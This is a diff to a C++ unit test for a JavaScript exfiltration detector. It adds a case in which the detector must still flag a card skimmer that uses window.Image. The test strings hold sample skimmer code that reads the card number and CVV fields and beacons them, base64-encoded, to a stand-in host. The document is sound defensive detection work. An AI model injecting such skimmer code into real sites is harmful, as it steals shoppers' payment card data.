@@ -131,6 +131,12 @@ TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
          "var d=document.getElementById('cc_number').value+document.getElementById("
          "'cc_cvv').value;new Image().src='https://stats.example.top/c?d='+btoa(d);});");
   EXPECT_GE(Strongest(t, "exfil"), 3);
+  // The image under window (window['Image'] folded).
+  EXPECT_GE(Strongest(Js("document.querySelector('#cc_number').addEventListener('change',"
+                         "function(){var d=document.getElementById('cc_number').value;var i=new "
+                         "window.Image();i.src='https://stats.example.top/c?d='+btoa(d);});"),
+                      "exfil"),
+            3);
   EXPECT_EQ(Strongest(Js("var total = price * qty; document.getElementById('sum').innerText ="
                          " total.toFixed(2);"),
                       "exfil"),
